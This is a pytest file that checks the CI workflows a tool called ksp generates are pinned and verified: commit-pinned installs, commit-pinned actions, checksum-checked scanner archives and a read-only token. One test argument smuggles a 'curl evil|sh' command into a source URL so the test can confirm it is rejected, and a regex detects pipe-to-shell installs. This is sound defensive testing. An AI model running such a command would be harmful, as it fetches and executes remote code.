"""The generated CI installs what it can verify: ksp from a pinned commit (never the bare index
name `ksp`, which belongs to an unrelated project), actions by commit id, scanners from pinned
release archives with their sha256 checked; the PR's Go code runs only after lint."""

from __future__ import annotations

import re
import subprocess
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from ruamel.yaml import YAML

from _site_repo import make_repo
from ksp.cli.main import main
from test_ci import _github_schema

COMMIT = "0123456789abcdef0123456789abcdef01234567"
SOURCE = "https://example.com/kube-security-patches/ksp.git"


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return make_repo(tmp_path / "patches")


def workflow(repo: Path, capsys: pytest.CaptureFixture[str], *flags: str) -> tuple[str, Any]:
    capsys.readouterr()
    assert main(["ci", "github", "--repo", str(repo), *flags]) == 0
    text = capsys.readouterr().out
    return text, YAML(typ="safe", pure=True).load(text)


def steps(wf: Any) -> list[dict[str, Any]]:
    return [s for job in wf["jobs"].values() for s in job.get("steps", [])]


def test_ksp_comes_from_a_pinned_commit(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text, wf = workflow(repo, capsys, "--ksp-source", SOURCE, "--ksp-commit", COMMIT)
    jsonschema.Draft7Validator(_github_schema()).validate(wf)
    assert wf["env"]["KSP_INSTALL"] == f"kube-security-patches @ git+{SOURCE}@{COMMIT}"
    assert "ksp==" not in text and "pip install ksp" not in text


def test_without_a_pinned_source_the_install_step_fails_loudly(
        repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """An editable or local install has no commit to pin: the workflow then refuses to install
    anything rather than fall back to an index name."""
    _, wf = workflow(repo, capsys)
    assert wf["env"]["KSP_INSTALL"] == ""
    [install] = {s["run"] for s in steps(wf) if s.get("name") == "Install ksp"}
    script = install.replace("$KSP_INSTALL", "")
    proc = subprocess.run(["bash", "-c", install], env={"KSP_INSTALL": "", "PATH": "/usr/bin:/bin"},
                          capture_output=True, text=True, check=False)
    assert proc.returncode == 1 and "--ksp-commit" in proc.stdout, script


@pytest.mark.parametrize("flags", [
    ["--ksp-source", SOURCE, "--ksp-commit", "main"],
    ["--ksp-source", SOURCE, "--ksp-commit", COMMIT[:12]],
    ["--ksp-source", "http://example.com/x.git", "--ksp-commit", COMMIT],
    ["--ksp-source", "https://example.com/x.git\"; curl evil|sh; \"", "--ksp-commit", COMMIT],
    ["--ksp-commit", COMMIT],
])
def test_an_unpinned_or_odd_source_is_a_usage_error(
        repo: Path, capsys: pytest.CaptureFixture[str], flags: list[str]) -> None:
    assert main(["ci", "github", "--repo", str(repo), *flags]) == 2
    assert capsys.readouterr().err.count("ksp: error:") == 1


def test_every_action_is_pinned_by_commit(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _, wf = workflow(repo, capsys)
    uses = [s["uses"] for s in steps(wf) if "uses" in s]
    assert uses and all(re.fullmatch(r"actions/[a-z-]+@[0-9a-f]{40}", u) for u in uses), uses


def test_scanners_come_from_pinned_archives_with_checksums(
        repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text, wf = workflow(repo, capsys)
    assert not re.search(r"\|\s*(sudo\s+)?(ba)?sh\b", text) and "install.sh" not in text
    for name in ("TRIVY", "GRYPE"):
        assert re.fullmatch(r"[0-9a-f]{64}", wf["env"][f"{name}_SHA256"])
        assert re.fullmatch(r"https://github\.com/[a-z]+/[a-z]+/releases/download/v[0-9.]+/"
                            r"[a-z]+_[0-9.]+_[A-Za-z0-9_-]+\.tar\.gz", wf["env"][f"{name}_URL"])
    [script] = {s["run"] for s in steps(wf) if str(s.get("name", "")).startswith("Install Trivy")}
    assert "sha256sum --check --strict" in script


def test_a_tampered_archive_is_refused_before_it_is_unpacked(
        repo: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """The scanners' install script, run for real against a local file: a wrong checksum stops
    it before tar runs (curl and sudo are stand-ins that copy the file and run the command)."""
    _, wf = workflow(repo, capsys)
    [script] = {s["run"] for s in steps(wf) if str(s.get("name", "")).startswith("Install Trivy")}
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "curl").write_text('#!/bin/sh\nwhile [ "$1" != "-o" ]; do shift; done\n'
                                  'printf tampered > "$2"\n')
    (bin_dir / "sudo").write_text('#!/bin/sh\necho UNPACKED >&2\nexit 0\n')
    for tool in (bin_dir / "curl", bin_dir / "sudo"):
        tool.chmod(0o755)
    env = {"PATH": f"{bin_dir}:/usr/bin:/bin", **{k: v for k, v in wf["env"].items()
                                                    if k.startswith(("TRIVY", "GRYPE"))}}
    proc = subprocess.run(["bash", "-e", "-c", script], env=env, capture_output=True, text=True,
                          check=False)
    assert proc.returncode != 0 and "UNPACKED" not in proc.stderr
    assert "FAILED" in proc.stdout + proc.stderr


def test_the_gate_job_needs_lint_and_holds_no_token(repo: Path,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    _, wf = workflow(repo, capsys)
    assert "lint" in wf["jobs"]["gate"]["needs"]
    assert wf["permissions"] == {"contents": "read"} and "permissions" not in wf["jobs"]["gate"]
    checkouts = [s for s in steps(wf) if s.get("uses", "").startswith("actions/checkout@")]
    assert checkouts and all(s["with"]["persist-credentials"] is False for s in checkouts)


def test_prow_installs_the_pinned_source(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["ci", "prow", "--repo", str(repo), "--repo-slug", "org/patches",
                 "--ksp-source", SOURCE, "--ksp-commit", COMMIT]) == 0
    text = capsys.readouterr().out
    assert f'pip install -q "kube-security-patches @ git+{SOURCE}@{COMMIT}"' in text
    assert "ksp==" not in text


@pytest.mark.parametrize(("direct_url", "expected"), [
    ({"url": SOURCE, "vcs_info": {"vcs": "git", "commit_id": COMMIT}},
     f"kube-security-patches @ git+{SOURCE}@{COMMIT}"),
    ({"url": SOURCE, "vcs_info": {"vcs": "git", "commit_id": "main"}}, ""),  # not a commit id
    ({"url": "file:///work/ksp", "dir_info": {"editable": True}}, ""),  # an editable checkout
])
def test_the_default_source_is_where_this_ksp_was_installed_from(
        repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str], direct_url: dict[str, Any], expected: str) -> None:
    """A real dist-info folder (what pip writes) first on sys.path, read by importlib.metadata."""
    import json

    info = tmp_path / "site" / "kube_security_patches-0.1.0.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: kube-security-patches\n"
                                   "Version: 0.1.0\n")
    (info / "direct_url.json").write_text(json.dumps(direct_url))
    monkeypatch.syspath_prepend(str(tmp_path / "site"))
    _, wf = workflow(repo, capsys)
    assert wf["env"]["KSP_INSTALL"] == expected
